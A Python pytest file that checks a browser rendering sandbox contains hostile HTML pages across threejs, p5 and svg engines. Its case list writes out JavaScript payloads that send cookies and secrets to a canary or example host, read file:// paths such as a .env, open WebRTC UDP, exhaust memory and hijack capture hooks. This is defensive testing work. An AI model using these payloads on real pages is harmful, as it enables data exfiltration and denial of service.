"""Hostile pages on the browser engines (threejs, p5, svg): egress by every browser API, file://
reads, navigation away, endless loops, unbounded memory, floods of console output, tampering with
the virtual clock. For each: the loopback TCP+UDP canary sees nothing, no canary secret shows up
in any output, the scene ends within its limit plus a small margin with the expected failure
class, and the next good page renders in the same pool.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from visphy_core.api.engine import FailureClass, Program, RenderContract

pytestmark = pytest.mark.browser

CONTRACT = RenderContract(fps=5, n_frames=4, width=64, height=64, timeout_s=8)
#: Seconds a scene may run past its limit (killing a stuck renderer, closing its context).
MARGIN_S = 4.0
#: Per-page memory cap for these tests (MB): small, so exhaustion is quick and cheap.
MEMORY_MB = 768

V = FailureClass.SANDBOX_VIOLATION
OK = None

# --------------------------------------------------------------------------- page scaffolding
# Each engine's page: `{head}` goes into <head>, `{attack}` runs first in its own <script>, then
# the engine's normal drawing code produces a moving clip (so a refused attack leaves a good page).

PAGES = {
    "threejs": """<html><head>{head}</head><body>
<canvas id="c" width="64" height="64"></canvas>
<script>{attack}</script>
<script>
const renderer = new THREE.WebGLRenderer({{canvas: document.getElementById('c')}});
const scene = new THREE.Scene(); scene.background = new THREE.Color(0xffffff);
const camera = new THREE.OrthographicCamera(0, 64, 64, 0, -1, 1);
const box = new THREE.Mesh(new THREE.PlaneGeometry(8, 8),
  new THREE.MeshBasicMaterial({{color: 0xf34f46}}));
scene.add(box);
function loop(t) {{ box.position.set(4 + t / 40, 32, 0); renderer.render(scene, camera);
  requestAnimationFrame(loop); }}
setupRecording(renderer.domElement, 800);
requestAnimationFrame(loop);
</script></body></html>""",
    "p5": """<html><head>{head}</head><body>
<script>{attack}</script>
<script>
function setup() {{ createCanvas(64, 64); noStroke(); }}
function draw() {{ background(255); fill(243, 79, 70); rect(frameCount % 56, 28, 8, 8); }}
</script></body></html>""",
    "svg": """<html><head>{head}</head><body>
<svg width="64" height="64"><rect width="64" height="64" fill="#fff"/>
<circle id="ball" r="5" cx="5" cy="32" fill="#1877f2"/></svg>
<script>{attack}</script>
<script>
setInterval(() => document.getElementById('ball').setAttribute('cx', 5 + performance.now() / 20),
            20);
</script></body></html>""",
}

CANARY_URL = "http://127.0.0.1:__CANARY_PORT__"

#: (id, engine, attack script, extra <head> markup, expected failure class, UDP wait)
CASES = [
    ("fetch_canary", "threejs",
     f"fetch('{CANARY_URL}/steal?k=' + document.cookie).catch(() => {{}});", "", V),
    ("fetch_other_host", "svg",
     "fetch('https://api.example.com/v1/exfil', {method: 'POST', body: 'x'}).catch(() => {});",
     "", V),
    ("xhr_canary", "p5",
     f"const x = new XMLHttpRequest(); x.open('GET', '{CANARY_URL}/xhr'); x.send();", "", V),
    ("img_script_link_tags", "svg", "",
     f'<img src="{CANARY_URL}/pixel.png"><script src="{CANARY_URL}/evil.js"></script>'
     f'<link rel="stylesheet" href="{CANARY_URL}/s.css">'
     '<img src="https://tracker.example.net/p.gif">', OK),
    ("websocket", "threejs",
     "try { const ws = new WebSocket('ws://127.0.0.1:__CANARY_PORT__/ws');"
     " ws.onopen = () => ws.send('hello'); } catch (e) {}", "", V),
    ("eventsource", "p5", f"new EventSource('{CANARY_URL}/events');", "", V),
    ("send_beacon", "svg", f"navigator.sendBeacon('{CANARY_URL}/beacon', 'secret');", "", V),
    ("webrtc_stun_turn_udp", "threejs",
     "const pc = new RTCPeerConnection({iceServers: ["
     "{urls: 'stun:127.0.0.1:__CANARY_PORT__'},"
     "{urls: 'turn:127.0.0.1:__CANARY_PORT__?transport=udp', username: 'u', credential: 'p'}]});"
     "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));", "", V),
    ("webrtc_from_fresh_iframe", "p5",
     "const f = document.createElement('iframe'); document.documentElement.appendChild(f);"
     "try { const pc = new f.contentWindow.RTCPeerConnection({iceServers: ["
     "{urls: 'stun:127.0.0.1:__CANARY_PORT__'}]}); pc.createDataChannel('x');"
     " pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}", "", V),
    ("fetch_file_url", "svg",
     "fetch('file://__CANARY_FILE__').then(r => r.text()).then(t => console.log(t))"
     ".catch(e => console.log('refused', e));", "", V),
    ("iframe_and_link_to_file", "threejs",
     "const f = document.createElement('iframe'); f.src = 'file://__CANARY_DOTENV__';"
     "document.documentElement.appendChild(f);"
     "const a = document.createElement('a'); a.href = 'file://__CANARY_FILE__';"
     "document.documentElement.appendChild(a); a.click();", "", V),
    ("navigate_location", "p5",
     f"setTimeout(() => {{ location.href = '{CANARY_URL}/away'; }}, 50);", "", V),
    ("navigate_location_file", "svg",
     "setTimeout(() => { location.href = 'file://__CANARY_FILE__'; }, 50);", "", V),
    ("navigate_form_submit", "svg",
     f"setTimeout(() => {{ const f = document.createElement('form'); f.method = 'POST';"
     f" f.action = '{CANARY_URL}/form'; document.documentElement.appendChild(f); f.submit(); }},"
     " 50);", "", V),
    ("navigate_meta_refresh", "threejs", "",
     f'<meta http-equiv="refresh" content="0; url={CANARY_URL}/meta">', V),
    ("window_open", "p5", f"window.open('{CANARY_URL}/popup');", "", V),
    ("worker_fetch", "threejs",
     "const src = `fetch('" + CANARY_URL + "/worker').catch(() => {}); postMessage(1);`;"
     "new Worker(URL.createObjectURL(new Blob([src], {type: 'text/javascript'})));", "", V),
    ("top_level_infinite_loop", "threejs", "for (;;) {}", "", FailureClass.TIMEOUT),
    ("infinite_loop_on_unload", "svg",
     "for (const ev of ['pagehide', 'unload', 'beforeunload', 'visibilitychange'])"
     " window.addEventListener(ev, () => { for (;;) {} });", "", OK),
    ("infinite_loop_in_raf", "svg",
     "requestAnimationFrame(function f(t) { if (t > 300) for (;;) {} requestAnimationFrame(f); });",
     "", FailureClass.TIMEOUT),
    ("unbounded_arrays", "p5",
     "const hoard = []; for (;;) hoard.push(new Array(1 << 20).fill(Math.random()));", "",
     FailureClass.RESOURCE_LIMIT),
    ("unbounded_arraybuffers", "threejs",
     "const hoard = []; for (;;) { const b = new Uint8Array(32 << 20); b.fill(7); hoard.push(b); }",
     "", FailureClass.RESOURCE_LIMIT),
    ("unbounded_webgl_textures", "threejs",
     "const gl = document.createElement('canvas').getContext('webgl2'); const texs = [];"
     "const data = new Uint8Array(2048 * 2048 * 4).fill(9);"
     "requestAnimationFrame(function f() { for (let i = 0; i < 8; i++) {"
     " const tx = gl.createTexture(); gl.bindTexture(gl.TEXTURE_2D, tx);"
     " gl.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, 2048, 2048, 0, gl.RGBA, gl.UNSIGNED_BYTE, data);"
     " texs.push(tx); } gl.finish(); requestAnimationFrame(f); });", "",
     FailureClass.RESOURCE_LIMIT),
    ("huge_console_output", "svg",
     "const line = 'x'.repeat(100000);"
     "for (let i = 0; i < 20000; i++) { console.log(line); console.error(i, line); }", "", OK),
    ("setup_recording_10ms", "threejs", "window.__short = true;", "", OK),
    ("tamper_with_virtual_time_hooks", "p5",
     "try { delete window.__visphy; } catch (e) {}"
     "try { window.__visphy = {captureAt: () => ({png: 'x'.repeat(1e6)})}; } catch (e) {}"
     "try { Object.defineProperty(window, '__visphy', {value: null}); } catch (e) {}"
     "try { window.RTCPeerConnection = function () {}; } catch (e) {}"
     "try { Object.defineProperty(window, 'RTCPeerConnection', {value: 1}); } catch (e) {}"
     "try { HTMLCanvasElement.prototype.toDataURL = () => 'data:image/png;base64,AAAA'; }"
     " catch (e) {}", "", OK),
]


@pytest.fixture(scope="module")
def engines(canary):
    """The three browser engines on one fresh pool, started after the canary env var is set
    (so a leak of the parent's environment into Chromium would show)."""
    from visphy_core.sandbox import browser
    from visphy_plugins.engines.browser_base import close_shared_pool
    from visphy_plugins.engines.p5 import P5Engine
    from visphy_plugins.engines.svg import SvgEngine
    from visphy_plugins.engines.threejs import ThreeJsEngine

    close_shared_pool()
    old = browser._CONFIG["memory_mb"]
    browser.configure(memory_mb=MEMORY_MB)
    made = {"threejs": ThreeJsEngine(), "p5": P5Engine(), "svg": SvgEngine()}
    yield made
    close_shared_pool()
    browser._CONFIG["memory_mb"] = old


def hostile_page(engine: str, attack: str, head: str, canary) -> Program:
    source = PAGES[engine].format(head=head, attack=attack)
    if "__short" in attack:  # the 10 ms clip of the upstream contract
        source = source.replace("setupRecording(renderer.domElement, 800)",
                                "setupRecording(renderer.domElement, 10)")
    return Program("html", canary.fill(source))


GOOD_ATTACK = ""


def assert_next_page_renders(engine, canary) -> None:
    result = engine.render(hostile_page(engine.name, GOOD_ATTACK, "", canary), CONTRACT)
    assert result.ok, ("the pool did not recover", result.failure, result.error, result.logs[:5])


@pytest.mark.parametrize("case_id, engine_name, attack, head, expected",
                         CASES, ids=[c[0] for c in CASES])
def test_hostile_page_is_contained(engines, canary, case_id, engine_name, attack, head, expected):
    from visphy_core.sandbox.browser import browser_isolation_level, netns_prefix

    engine = engines[engine_name]
    program = hostile_page(engine_name, attack, head, canary)
    engine.validate(program)
    start = time.perf_counter()
    result = engine.render(program, CONTRACT)
    wall = time.perf_counter() - start
    time.sleep(1.5 if "webrtc" in case_id else 0.3)  # give a stray datagram time to land

    assert canary.hits == [], canary.hits
    assert canary.leaks(result.error, result.logs, result.blocked_requests) == []
    assert wall <= CONTRACT.timeout_s + MARGIN_S, f"{wall:.1f} s for a {CONTRACT.timeout_s} s limit"
    allowed = expected if isinstance(expected, tuple) else (expected,)
    assert result.failure in allowed, (result.failure, result.error, result.logs[:6])
    if netns_prefix()[0] is not None:
        assert result.isolation == browser_isolation_level()
        assert "netns" in result.isolation and "no-egress" in result.isolation
    if result.failure is None:
        assert result.ok and result.frames.shape == (CONTRACT.n_frames, 64, 64, 3)
    if result.failure is V:
        assert result.blocked_requests, "a violation without a logged attempt"
        assert any(line.startswith("blocked request: ") for line in result.logs)
    if result.failure is FailureClass.RESOURCE_LIMIT:
        assert "memory limit" in result.error
    assert_next_page_renders(engine, canary)


def test_attempts_name_what_was_blocked(engines, canary):
    """The scene log says what each kind of attempt tried to reach."""
    expectations = {
        "websocket": "websocket ws://127.0.0.1:",
        "eventsource": "eventsource http://127.0.0.1:",
        "send_beacon": "ping http://127.0.0.1:",
        "webrtc_stun_turn_udp": "webrtc stun:127.0.0.1:",
        "fetch_file_url": "file:///",
        "navigate_meta_refresh": "navigation http://127.0.0.1:",
        "window_open": "popup http://127.0.0.1:",
        "worker_fetch": "fetch http://127.0.0.1:",
        "img_script_link_tags": "image http://127.0.0.1:",
    }
    by_id = {c[0]: c for c in CASES}
    for case_id, needle in expectations.items():
        _, engine_name, attack, head, _ = by_id[case_id]
        result = engines[engine_name].render(hostile_page(engine_name, attack, head, canary),
                                             CONTRACT)
        assert any(needle in entry for entry in result.blocked_requests), \
            (case_id, result.blocked_requests)
    tags = engines["svg"].render(hostile_page("svg", "", by_id["img_script_link_tags"][3],
                                              canary), CONTRACT)
    kinds = {entry.split(" ", 1)[0] for entry in tags.blocked_requests}
    assert {"image", "script", "stylesheet"} <= kinds, tags.blocked_requests
    assert any("tracker.example.net" in entry for entry in tags.blocked_requests)
    assert canary.hits == []


def test_webrtc_udp_is_blocked_by_the_browser_itself(engines, canary):
    """Even with the browser's own RTCPeerConnection (the page-level refusal switched off), the
    STUN/TURN datagrams never reach the host: network namespace plus Chromium's WebRTC policy."""
    from visphy_plugins.engines.browser_base import shared_pool, tick_ms_for

    engine = engines["threejs"]
    attack = ("const pc = new RTCPeerConnection({iceServers: ["
              "{urls: 'stun:127.0.0.1:__CANARY_PORT__'},"
              "{urls: 'turn:127.0.0.1:__CANARY_PORT__?transport=udp', username: 'u',"
              " credential: 'p'}]});"
              "pc.onicecandidate = (e) => console.log('candidate', e.candidate && "
              "e.candidate.candidate);"
              "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));")
    source = hostile_page("threejs", attack, "", canary).source
    cap = shared_pool().render_page(
        engine.canonicalise(source), engine.assets, CONTRACT.frame_times_ms(), width=64,
        height=64, timeout_s=8, tick_ms=tick_ms_for(CONTRACT.fps), inject_fault="real-webrtc")
    assert not cap.errors, cap.errors  # the page really had a working RTCPeerConnection
    time.sleep(2.0)
    assert canary.hits == []
    assert not any("udp" in line and "typ host" in line for line in cap.console), cap.console


def test_top_level_loop_past_playwrights_default_timeout_is_a_timeout(engines, canary):
    """Playwright's own 30 s default must not cut in first (it used to give runtime_error)."""
    contract = RenderContract(**{**CONTRACT.__dict__, "timeout_s": 31})
    start = time.perf_counter()
    result = engines["p5"].render(hostile_page("p5", "for (;;) {}", "", canary), contract)
    wall = time.perf_counter() - start
    assert result.failure is FailureClass.TIMEOUT, (result.failure, result.error)
    assert 31 <= wall + 0.5 and wall <= 31 + MARGIN_S
    assert_next_page_renders(engines["p5"], canary)


def test_chromium_environment_holds_no_secret(engines, canary):
    """Every process of the pool's Chromium starts from the allow-listed environment."""
    from visphy_core.sandbox.chromium import descendants
    from visphy_plugins.engines.browser_base import shared_pool

    assert_next_page_renders(engines["threejs"], canary)
    pool = shared_pool()
    assert os.environ.get("VISPHY_CANARY_API_KEY") == canary.env_value
    pids = []
    for proc in pool._browsers:
        assert proc.pid is not None
        pids += [proc.pid] + descendants(proc.pid)
    assert pids
    for pid in pids:
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        assert canary.env_value.encode() not in environ, pid
        names = {item.split(b"=", 1)[0] for item in environ.split(b"\0") if item}
        assert b"VISPHY_CANARY_API_KEY" not in names
        assert b"HOME" not in names or Path(
            dict(item.split(b"=", 1) for item in environ.split(b"\0") if b"=" in item)[b"HOME"]
            .decode()) != Path.home()


def test_browser_runs_in_its_own_network_namespace(engines, canary):
    from visphy_core.sandbox.browser import netns_prefix
    from visphy_plugins.engines.browser_base import shared_pool

    if netns_prefix()[0] is None:
        pytest.skip("this kernel grants no network namespace")
    assert_next_page_renders(engines["svg"], canary)
    from visphy_core.sandbox.chromium import descendants

    host_net = os.readlink("/proc/self/ns/net")
    for proc in shared_pool()._browsers:
        seen = 0
        for pid in [proc.pid, *descendants(proc.pid)]:
            try:  # a utility process may exit while we look
                argv0 = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0]
                net = os.readlink(f"/proc/{pid}/ns/net")
            except OSError:
                continue
            if b"chromium" in argv0:  # the browser and every renderer/GPU/utility process
                seen += 1
                assert net != host_net, pid
        assert seen, "no Chromium process under the launcher"
